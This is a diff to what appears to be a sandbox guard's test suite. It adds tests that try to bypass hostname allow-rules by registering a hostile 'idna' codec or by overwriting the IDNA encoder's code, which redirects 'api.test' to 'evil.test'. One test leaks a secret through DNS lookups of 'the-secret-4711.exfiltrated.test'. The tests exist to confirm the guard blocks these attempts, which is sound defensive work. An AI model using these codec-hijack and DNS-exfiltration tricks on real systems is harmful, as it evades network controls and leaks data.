@@ -6,7 +6,7 @@ import os
 import socket
 
 from tests.guard.attacks import namespaces, peer_names  # noqa: F401 - loaded here, used in the attacked process
-from tests.guard.attacks.kit import ENVIRONMENT, Ground
+from tests.guard.attacks.kit import ENVIRONMENT, SANDBOX, Ground
 from tests.guard.attacks.network import (
     IN_TOWN,
     LIMIT,
@@ -187,6 +187,63 @@ network_attacks_of(
     rules=reading("db"),
     expect=ENVIRONMENT,
     group="environment_",
+    **IN_TOWN,
+)
+
+
+def own_codec(ground: Ground, target: bytes) -> None:
+    """Names are encoded by a codec that anybody can register; this one turns every name into another."""
+    import codecs
+    import encodings
+
+    def encode(text: str, errors: str = "strict") -> tuple[bytes, int]:
+        return target, len(text)
+
+    def search(name: str):
+        return codecs.CodecInfo(encode, None, name="idna") if name == "idna" else encodings.search_function(name)
+
+    codecs.unregister(encodings.search_function)
+    codecs.register(search)
+
+
+def codec_urllib(ground: Ground) -> object:
+    own_codec(ground, b"evil.test")
+    return fetch(ground, "api.test")
+
+
+def codec_socket(ground: Ground) -> object:
+    own_codec(ground, b"evil.test")
+    return ask(socket.create_connection(("api.test", peers(ground).town)), "/allowed", "api.test")
+
+
+def codec_body(ground: Ground) -> object:
+    """The codec that is there already gets other instructions."""
+    import encodings.idna
+
+    def encode(self: object, text: str, errors: str = "strict") -> tuple[bytes, int]:
+        return b"evil.test", len(text)
+
+    socket.getaddrinfo("localhost", 1)
+    encodings.idna.Codec.encode.__code__ = encode.__code__
+    return fetch(ground, "api.test")
+
+
+def codec_own_name(ground: Ground) -> None:
+    own_codec(ground, b"the-secret-4711.exfiltrated.test")
+    try:
+        socket.getaddrinfo("localhost", 80)
+        socket.gethostbyname("localhost")
+        socket.gethostbyaddr("localhost")
+    except (socket.gaierror, socket.herror):
+        pass
+
+
+network_attacks_of(
+    {"urllib": codec_urllib, "socket": codec_socket, "instructions": codec_body, "own_name": codec_own_name},
+    "the codec that names are encoded with is the subject's: {}",
+    rules=lambda ground: [*reading("api.test")(ground), ("connect", f"api.test:{peers(ground).town}")],
+    expect=(NETWORK | SANDBOX).quietly.or_raises("gaierror", "URLError", "LookupError"),
+    group="codec_",
     **IN_TOWN,
 )
 
